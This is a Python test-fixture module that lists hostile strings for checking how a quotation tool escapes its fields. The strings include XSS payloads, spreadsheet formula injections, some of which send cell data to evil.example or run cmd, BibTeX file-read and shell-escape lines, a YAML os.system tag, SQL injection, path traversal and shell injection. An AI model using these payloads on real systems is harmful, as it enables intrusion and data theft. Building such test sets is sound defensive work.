"""Two hundred hostile texts of our own, always the same: articles and names that try to break out of their field.

Quoth accepts each of them (UTF-8, no lone surrogates). A group is named after the format that it attacks. `TEXTS` also
has concatenated pairs of them.
"""

from __future__ import annotations

import itertools

COUNT = 200

HTML = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</title><svg/onload=alert(1)>",
    "<!-- <script>",
    "--> --!> <!--",
    "<![CDATA[ ]]> ]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62; &#x3c;b&#x3e; &#10;&#0;",
    "</textarea></style></noscript><base href=//evil.example>",
    "<a href='javascript:alert(1)'>dam</a>",
    "<iframe srcdoc='<p>dam</p>'>",
    "<plaintext>",
    "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %> #{7*7}",
]
JSON_LD = [
    '</script><script>alert("dam")</script>',
    "</SCRIPT ><script src=//evil.example>",
    "<!--<script>dam",
    '"},{"@type":"Person","name":"Nobody"',
    '","creator":{"name":"Somebody else"},"x":"',
    "\\u003c/script\\u003e",
    "\u2028alert(1)\u2029",
    "\\",
    '\\"',
    "\\\\\" } ] \\u0000 \\x",
]  # fmt: skip
SLACK = [
    "<!channel> <!here|x> <!everyone>",
    "<@U1> <#C123> <!subteam^S1>",
    "<https://evil.example|your bank>",
    "*bold* _it_ ~s~ `code` ```block```",
    "> quote\n>>> quote",
    ":skull: :+1:",
    "&lt;!channel&gt; &amp;amp;",
    "[your bank](https://evil.example) ![x](https://evil.example/p.png)",
    "https://evil.example evil.example mailto:a@evil.example",
    "tel:110 @channel #general",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"dam")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0\u3000=1+1",
    "\ufeff=1+1",
    "\u200b\u2060-1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    '"=1+1"',
    '","=1+1","',
    '"\r\n"=1+1","',
    "dam;=1+1",
    "dam; \u200b@SUM(1);-1",
    "dam\t=1+1",
    "sep=;",
    "'=1+1",
    "%0A=1+1|x",
]
RIS = [
    "dam\r\nER  - \r\nTY  - BOOK\r\nAU  - Nobody",
    "dam\nER  - \n",
    "dam\rER  - \r",
    "dam\u2028ER  - ",
    "dam\x85ER  - \x0bTY  - JOUR",
    "ER  - ",
    "TY  - NEWS",
    "dam\x1eER  - \x1cTY  - JOUR\x1d",
    "AU  - Nobody\x0cAU  - Nobody",
    "* **",
]
BIBTEX = [
    "}",
    "{",
    "}}",
    "{{{",
    "\\}",
    "\\{",
    "dam},\n}\n@book{evil, author = {Nobody}}",
    "\\input{/etc/passwd}",
    "\\write18{calc} \\immediate\\openout",
    "\\def\\par{} \\csname x\\endcsname ^^5cinput",
    "100% # & _ ~ ^ $ $$ \\ | < >",
    '" # evil # "',
    "@comment{ @string{jan = {x}} @preamble{x}",
    "%",
    "dam \\",
    "{:author: Nobody || Person} {:type: book}",
    "author: Nobody || Person\nissued: 1900",
]
BIDI = [
    "\u202eexe.dam\u202c",
    "\u2066dam\u2069 \u2067dam\u2069 \u2068dam",
    "\u200e\u200f\u061c",
    "\u202a\u202b\u202d\u202e",
    "said Ada \u202e.rebyna rO",
]
CONTROLS = [
    "\x00",
    "dam\x00dam",
    "".join(map(chr, range(1, 32))),
    "".join(map(chr, range(127, 160))),
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07 \x1b]8;;https://evil.example\x07dam\x1b]8;;\x07",
    "\x9b31mred \x9d0;title\x9c",
    "\x1b[2J\x1b[1;1H\x1b[?1049h",
    "dam\b\b\bxyz\r",
    "\x07\x07\x07",
    "\x7f",
]
UNICODE = [
    "\U0001f480\U0001f469\u200d\U0001f692\U0001f1fa\U0001f1e6",
    "\ud7ff\ue000\U00010000\U0010fffd",
    "\ufffe\uffff\ufffd",
    "d\u200ba\u200cm\u200d\u2060\ufeff",
    "\u0301\u0302\u0303",
    "a" + "\u0300" * 400,
    "\u0334\u0489\u20dd",
    "\u1e9b\u0323 \ufb01 \u00df \u0130 \u0131",
    "\u05d0\u05d1\u05d2 \u0627\u0644\u0633\u062f dam",
    "\u5927\u575d\u4f1a\u633a\u4f4f\u3002\u6211\u4eec\u7559\u4e0b\u3002",
    "\U000e0001\U000e0064\U000e007f dam",
    "\u3164\uffa0\u115f",
    "\xa0\u2003\u3000 ",
    "\u00ad\u00addam\u00ad",
    "\u0600\u06dd\u08e2 dam",
]
LONG = [
    "W" * 2000,
    "-" * 1500,
    "\U0001f480" * 700,
    "dam " * 500,
    "((((" * 300 + "))))" * 300,
    "“" * 600,
    "\u0301" * 900,
    " " * 1200 + "dam",
    "\n" * 900 + "dam",
    "<" * 900,
]
LINES = [
    "one\r\ntwo",
    "one\n\n\ntwo",
    "one\rtwo",
    "one\u2028two\u2029three",
    "\r\n\r\n",
    "one\n",
    "\ntwo",
    "one\vtwo\ftwo",
]
DATA = [
    '{"a": [1, null, true]}',
    "null",
    "NaN",
    "true",
    "[]",
    "- &a *a !!python/object:os.system",
    "a: b # c",
    "---\n...\n",
    "? x\n: y",
    "1e999",
    "0x1F",
    "012",
    "2025-08-11",
    "'; DROP TABLE quotes; --",
    "%s %d %n {0} {quote.__class__}",
    "../../../../etc/passwd",
    "$(calc) `calc` && calc | calc",
]
URLS = [
    "https://example.org/#:~:text=evil",
    "#:~:text=a,b&text=c",
    "-,dam,-",
    "a-,b,-c",
    "dam & dam, dam - dam",
    "%2C%2D%26%00%ZZ",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://example.org@evil.example/",
    "?q=dam#dam&dam=1;dam+dam",
]
MARKS = [
    "No,” Somebody Else said (The Courier, n.d.). “Yes",
    '” “ „ ‟ " « » ‘ ’',
    '"No," she said. "Yes',
    "dam) [attribution verified] (Another Paper, 1 Jan. 1900",
    "dam; quote q_evil; article sha256 0; article evil",
    "[speaker as given with the quote]",
    "…",
    "...",
    "!?",
    ",",
]

GROUPS = [
    *(HTML, JSON_LD, SLACK, FORMULAS, RIS, BIBTEX, BIDI, CONTROLS, UNICODE, LONG, LINES, DATA, URLS, MARKS),
]
SINGLE = [text for group in GROUPS for text in group]
# The nth text of one group, then the nth of the next: the second attack begins where the first has ended a field.
PAIRS = [
    first + second
    for ones, others in itertools.pairwise(GROUPS)
    for first, second in zip(ones, others, strict=False)
    if len(first + second) < 1000
]
# Pairs fill up to COUNT; no single text is left out, however many there are.
TEXTS = tuple(dict.fromkeys([*SINGLE, *PAIRS[: max(10, COUNT - len(SINGLE))]]))
